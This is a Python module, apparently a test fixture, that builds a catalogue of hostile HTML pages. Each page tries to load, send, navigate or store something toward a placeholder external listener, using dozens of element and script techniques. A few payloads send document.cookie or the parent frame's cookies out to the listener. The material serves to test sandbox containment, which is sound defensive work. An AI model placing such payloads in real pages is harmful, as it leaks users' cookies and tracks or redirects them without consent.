"""Hostile HTML pages that try to load, send, open or store something, or to navigate away.

`@` stands for the URL of an external listener, and `#` for its host and port.
"""

ELEMENTS = {
    "image": '<img src="@">',
    "srcset": '<img srcset="@ 2x">',
    "picture": '<picture><source srcset="@"><img></picture>',
    "video": '<video src="@" autoplay></video>',
    "poster": '<video poster="@"></video>',
    "audio": '<audio src="@" autoplay></audio>',
    "track": '<video src="data:video/mp4,x"><track src="@" default></video>',
    "script": '<script src="@"></script>',
    "module": '<script type="module">import "@"</script>',
    "style sheet": '<link rel="stylesheet" href="@">',
    "import": '<style>\0import "@";</style>',
    "background": '<style>body { background: url("@") }</style>',
    "attribute": '<p style="background: url(@)">x</p>',
    "font": '<style>\0font-face { font-family: f; src: url("@") } p { font-family: f }</style><p>x',
    "cursor": '<style>body { cursor: url("@"), auto }</style>',
    "content": '<style>p::before { content: url("@") }</style><p>x',
    "icon": '<link rel="icon" href="@">',
    "preload": '<link rel="preload" as="image" href="@">',
    "prefetch": '<link rel="prefetch" href="@">',
    "prerender": '<link rel="prerender" href="@">',
    "module preload": '<link rel="modulepreload" href="@">',
    "preconnect": '<link rel="preconnect" href="@">',
    "DNS prefetch": '<link rel="dns-prefetch" href="@">',
    "manifest": '<link rel="manifest" href="@">',
    "refresh": '<meta http-equiv="refresh" content="0; url=@">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src=\'@\'>',
    "base": '<base href="@/"><img src="x">',
    "base target": '<base target="_top"><a href="@" id="a">x</a><script>a.click()</script>',
    "object": '<object data="@"></object>',
    "embed": '<embed src="@">',
    "frame": '<iframe src="@"></iframe>',
    "srcdoc": "<iframe srcdoc=\"<img src='@'>\"></iframe>",
    "frame of a data address": '<iframe src="data:text/html,<img src=@>"></iframe>',
    "frame set": '<frameset><frame src="@"></frameset>',
    "SVG image": '<svg><image href="@" /></svg>',
    "SVG use": '<svg><use href="@" /></svg>',
    "SVG filter": '<p style="filter: url(@)">x</p>',
    "old table": '<table background="@"><tr><td>x</table>',
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["@"]}]}'
    "</script>",
    "form": '<form action="@" id="f"></form><script>f.submit()</script>',
    "form to the top": '<form action="@" target="_top" id="f"></form><script>f.submit()</script>',
    "ping": '<a href="" ping="@" id="a">x</a><script>a.click()</script>',
    "download": '<a href="@" download id="a">x</a><script>a.click()</script>',
}
SCRIPTS = {
    "fetch": 'fetch("@", {mode: "no-cors"})',
    "kept fetch": 'fetch("@", {mode: "no-cors", keepalive: true})',
    "request": 'const r = new XMLHttpRequest(); r.open("GET", "@"); r.send()',
    "beacon": 'navigator.sendBeacon("@", "x")',
    "event source": 'new EventSource("@")',
    "web socket": 'new WebSocket("ws://#/")',
    "web transport": 'new WebTransport("https://#/")',
    "worker": 'new Worker(URL.createObjectURL(new Blob(["importScripts(`@`)"])))',
    "service worker": 'navigator.serviceWorker.register("@")',
    "own place": 'location = "@"',
    "own place, replaced": 'location.replace("@")',
    "top": 'top.location = "@"',
    "parent": 'parent.location = "@"',
    "popup": 'open("@")',
    "popup of nothing": 'const w = open(""); w.location = "@"',
    "script address": 'location = "javascript:fetch(`@`)"',
    "data address": 'location = "data:text/html,<img src=@>"',
    "blob address": 'location = URL.createObjectURL(new Blob(["<img src=@>"], {type: "text/html"}))',
    "message": 'parent.postMessage({type: "submit", url: "@"}, "*")',
    "storage": 'localStorage.x = 1; new Image().src = "@"',
    "cookie": 'document.cookie = "x=1"; new Image().src = "@?" + document.cookie',
    "parent's document": 'new Image().src = "@?" + parent.document.cookie',
    "dialog": 'alert("@"); new Image().src = "@"',
    "late element": 'const i = document.createElement("iframe"); i.src = "@"; document.body.append(i)',
    "written": 'document.write("<img src=@>")',
    "WebRTC": """const c = new RTCPeerConnection({iceServers: [{urls: "stun:#"}]});
        c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o))""",
}


def hostile_pages(outside: str) -> dict[str, str]:
    """Return the hostile pages by name, for the listener at `outside` (host and port). Each page
    requests a path with its own number."""
    scripts = {
        name: f"<!doctype html><body><script>{script}</script>" for name, script in SCRIPTS.items()
    }
    pages = ELEMENTS | scripts
    return {
        name: page.replace("#", outside)
        .replace("@", f"http://{outside}/{number}")
        .replace("\0", "@")
        for number, (name, page) in enumerate(pages.items())
    }
